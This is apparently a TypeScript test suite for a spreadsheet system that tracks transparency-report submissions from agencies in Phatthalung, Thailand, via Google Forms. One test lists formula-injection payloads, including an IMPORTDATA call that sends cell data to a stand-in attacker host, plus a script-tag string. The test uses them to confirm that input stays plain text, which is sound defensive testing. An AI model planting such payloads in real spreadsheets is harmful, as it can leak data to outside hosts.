import { furnish, type Office } from './office';

const [REGISTER, REPORTS, AGENCIES] = ['ทะเบียนติดตาม', 'รายงานผล', 'หน่วยงาน'];
const NOTHING_NEW = 'ไม่มีคำตอบใหม่จากแบบฟอร์ม';
const SSO = 'สำนักงานประกันสังคมจังหวัดพัทลุง';
const TREASURY = 'สำนักงานคลังจังหวัดพัทลุง';

let ready: Awaited<ReturnType<typeof furnish>>;
beforeAll(async () => {
  ready = await furnish('phatthalung-2565', ['menuSetUp', 'menuAssign', 'menuForm']);
}, 60_000);
afterAll(() => ready.remove());

/** What an agency's own link carries, in the order of the form. */
function carried(office: Office, name: string): string[] {
  const link = office.rows(AGENCIES).find((row) => row.ชื่อหน่วยงาน === name)?.ลิงก์แบบฟอร์ม ?? '';
  return [...new URL(link).searchParams]
    .filter(([key]) => key.startsWith('entry.'))
    .map(([, value]) => value);
}

const codeOf = (office: Office, name: string) => carried(office, name)[1] ?? '';

function answersOf(
  office: Office,
  items: Readonly<Record<string, string>>,
  more: Readonly<Record<string, string>> = {},
) {
  const titles = new Map(office.rows('ข้อ OIT').map((row) => [row.ข้อ, row.ชื่อ]));
  const own = Object.entries(items).map(([code, text]) => [`${code} ${titles.get(code)}`, text]);
  return { หน่วยงาน: SSO, รหัสยืนยัน: codeOf(office, SSO), ...Object.fromEntries(own), ...more };
}

const officerOf = (office: Office, name: string) =>
  office.rows(AGENCIES).find((row) => row.ชื่อหน่วยงาน === name)?.['เจ้าหน้าที่ตอบ Q&A'];

/** Answers are no longer announced, as it happens when an event of Google's is lost. */
function deafen(office: Office): void {
  const { triggers } = office.cloud.parts;
  for (const { id, functionName } of triggers.all)
    if (functionName === 'onFormSubmitted') triggers.remove(id);
}

const duty = (office: Office, key: string) => office.rows(REGISTER).find((row) => row.รหัส === key);
const link = (name: string) => `https://sso.phatthalung.example/${name}`;

describe('the form of the year', () => {
  let office: Office;
  beforeAll(() => {
    office = ready.open();
  });

  test('gives each agency a link that carries its name and a code of its own', () => {
    const rows = office.rows(AGENCIES);
    const codes = rows.map((row) => {
      expect(row.ลิงก์แบบฟอร์ม).toMatch(
        /^https:\/\/docs\.google\.com\/forms\/d\/e\/[\w-]+\/viewform\?usp=pp_url&entry\.\d+=[^&]+&entry\.\d+=[^&]+$/,
      );
      const [name, code] = carried(office, row.ชื่อหน่วยงาน ?? '');
      expect(name).toBe(row.ชื่อหน่วยงาน);
      return code;
    });
    expect(new Set(codes).size).toBe(32);
  });

  test('made again, keeps links and questions', async () => {
    const before = office.rows(AGENCIES).map((row) => row.ลิงก์แบบฟอร์ม);
    const ids = () =>
      [...office.cloud.parts.forms.forms.values()].map(({ items }) => items.map(({ id }) => id));
    const items = ids();
    await office.choose('menuForm');
    expect(office.rows(AGENCIES).map((row) => row.ลิงก์แบบฟอร์ม)).toEqual(before);
    expect(ids()).toEqual(items);
    expect(items).toHaveLength(1);
  });
});

test('an answer is in the register as soon as it is sent, and once however often it is collected', async () => {
  const office = ready.open();
  office.at('2022-03-30');
  await office.answer({
    answers: answersOf(
      office,
      { O1: link('o1'), O8: `${link('a')}\n${link('b')}` },
      { 'เจ้าหน้าที่ตอบ Q&A': 'นักวิชาการแรงงาน 0 7400 0000' },
    ),
  });
  expect(duty(office, 'O1|sso')).toMatchObject({ สถานะ: 'รอสอบทาน', ลิงก์หลักฐาน: link('o1'), ส่งช้า: '' });
  expect(duty(office, 'O8|sso')?.ลิงก์หลักฐาน).toBe(`${link('a')}\n${link('b')}`);
  const recorded = office.rows(REPORTS);
  expect(recorded.map((row) => [row.รหัส, row.ลิงก์, row.ยืนยันแหล่งที่มา, row.ใช้อยู่])).toEqual([
    ['O1|sso', link('o1'), 'ยืนยันแล้ว', 'TRUE'],
    ['O8|sso', link('a'), 'ยืนยันแล้ว', 'TRUE'],
    ['O8|sso', link('b'), 'ยืนยันแล้ว', 'TRUE'],
  ]);
  expect((await office.choose('menuCollect')).text).toBe(NOTHING_NEW);
  expect((await office.choose('menuCollect')).text).toBe(NOTHING_NEW);
  expect(office.rows(REPORTS)).toEqual(recorded);
});

test('an edited answer takes the place of the earlier one, and history stays', async () => {
  const office = ready.open();
  const [id = ''] = await office.answer({ answers: answersOf(office, { O1: link('old'), O2: link('o2') }) });
  await office.answer({
    edits: id,
    at: '2022-04-04T10:00',
    answers: answersOf(office, { O1: link('new'), O2: link('o2') }),
  });
  expect(duty(office, 'O1|sso')).toMatchObject({ ลิงก์หลักฐาน: link('new'), ส่งช้า: '' });
  expect(office.rows(REPORTS).map((row) => [row.ลิงก์, row.ใช้อยู่])).toEqual([
    [link('old'), 'FALSE'],
    [link('o2'), 'TRUE'],
    [link('new'), 'TRUE'],
  ]);
});

test('a first answer four days after the deadline is four days late', async () => {
  const office = ready.open();
  await office.answer({ at: '2022-04-04T10:00', answers: answersOf(office, { O1: link('o1') }) });
  expect(duty(office, 'O1|sso')).toMatchObject({ ส่งช้า: '4', รายงานเมื่อ: '4 เม.ย. 2565 10:00' });
});

test.each([
  ['wrong', 'AAAA0000', 'รหัสยืนยันไม่ถูกต้อง รอเจ้าหน้าที่รับรอง'],
  ['missing', '', 'ไม่มีรหัสยืนยัน รอเจ้าหน้าที่รับรอง'],
])(
  'an answer with a %s code is recorded without effect until a person accepts it',
  async (_what, code, problem) => {
    const office = ready.open();
    await office.answer({ answers: answersOf(office, { O1: link('o1') }, { รหัสยืนยัน: code }) });
    expect(duty(office, 'O1|sso')).toMatchObject({ สถานะ: 'ยังไม่รายงาน', ลิงก์หลักฐาน: '' });
    expect(office.rows(REPORTS)).toMatchObject([{ ยืนยันแหล่งที่มา: 'รอยืนยัน', ปัญหา: problem, ใช้อยู่: 'FALSE' }]);
    await office.type(REPORTS, office.cell(REPORTS, 'ยืนยันแหล่งที่มา', link('o1')), 'เจ้าหน้าที่รับรอง');
    await office.choose('menuCollect');
    expect(duty(office, 'O1|sso')).toMatchObject({ สถานะ: 'รอสอบทาน', ลิงก์หลักฐาน: link('o1') });
  },
);

const HOSTILE = [
  '=IMPORTDATA("https://evil.example/"&A1)',
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  "'=1+1",
  '\t=1+1',
  '<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example","กดที่นี่")',
  '31/3/2565',
  '0012',
  'TRUE',
];

test('hostile text stays text wherever it lands', async () => {
  const office = ready.open();
  deafen(office);
  for (const [index, text] of HOSTILE.entries()) {
    const items = { [`O${(index % 7) + 1}`]: `${text}\n${link(`x${index}`)}` };
    const others = { ผู้รายงาน: text, หมายเหตุ: text, 'เจ้าหน้าที่ตอบ Q&A': text };
    await office.answer({ answers: answersOf(office, items, others) });
    const theirs = { หน่วยงาน: TREASURY, รหัสยืนยัน: codeOf(office, TREASURY), ...others };
    if (index === 0) await office.answer({ answers: answersOf(office, items, theirs) });
  }
  await office.choose('menuCollect');
  await office.choose('menuRefresh');
  const rows = office.rows(REPORTS);
  expect(new Set(rows.map((row) => row.ผู้รายงาน))).toEqual(new Set(HOSTILE.map((text) => text.trim())));
  expect(officerOf(office, TREASURY)).toBe(HOSTILE[0]);
  for (const tab of [REPORTS, REGISTER, AGENCIES]) {
    const sheet = office.sheet(tab);
    const { frozenRows: row, usedRows, usedColumns: columns } = sheet;
    const formulas = sheet.formulas({ row, column: 0, rows: usedRows - row, columns }).flat();
    expect(formulas.filter((formula) => formula !== '')).toEqual([]);
  }
});

test('what changes nothing, what withdraws, what asks for release', async () => {
  const office = ready.open();
  await office.answer({ answers: answersOf(office, { O1: link('o1'), O2: link('o2'), O3: link('o3') }) });
  await office.answer({
    answers: answersOf(office, { O1: ' ', O2: 'ยกเลิก', O3: 'ไม่เกี่ยวข้อง เพราะไม่มีภารกิจนี้' }),
  });
  expect(duty(office, 'O1|sso')).toMatchObject({ สถานะ: 'รอสอบทาน', ลิงก์หลักฐาน: link('o1') });
  expect(duty(office, 'O2|sso')).toMatchObject({ สถานะ: 'ยังไม่รายงาน', ลิงก์หลักฐาน: '' });
  expect(duty(office, 'O3|sso')).toMatchObject({
    สถานะ: 'รอสอบทาน',
    หมายเหตุ: expect.stringContaining('ไม่เกี่ยวข้อง'),
  });
});

describe('an answer that no trigger announced', () => {
  const HOUR = 3_600_000;
  const LOG = 'บันทึกการทำงาน';
  const advance = async (office: Office, hours: number) => {
    const fired = await office.cloud.advance(office.cloud.now() + hours * HOUR);
    for (const { outcome } of fired) expect(outcome.error).toBeUndefined();
    return fired;
  };
  const repairs = (office: Office) => office.rows(LOG).filter((row) => row.งาน?.startsWith('กระทบยอด'));

  test('is read within the hour, and the log says so', async () => {
    const office = ready.open();
    deafen(office);
    await office.answer({ answers: answersOf(office, { O1: link('o1') }) });
    expect(duty(office, 'O1|sso')?.สถานะ).toBe('ยังไม่รายงาน');
    await advance(office, 1);
    expect(duty(office, 'O1|sso')?.สถานะ).toBe('รอสอบทาน');
    expect(repairs(office)).toMatchObject([{ งาน: 'กระทบยอดรายชั่วโมง', ผล: 'เก็บตกแล้ว' }]);
    await advance(office, 24);
    expect(repairs(office)).toHaveLength(1);
  });

  test('an hour without news costs a handful of calls, and opens no tab', async () => {
    const office = ready.open();
    await office.answer({ answers: answersOf(office, { O1: link('o1') }) });
    const { outcome } = await office.choose('everyHour');
    const { total, byMethod } = outcome.calls ?? { total: Number.NaN, byMethod: {} };
    expect(Object.keys(byMethod).filter((method) => /^(?:Range|Sheet)\./.test(method))).toEqual([]);
    expect({ total, isHandful: total <= 30 }).toEqual({ total, isHandful: true });
  });
});
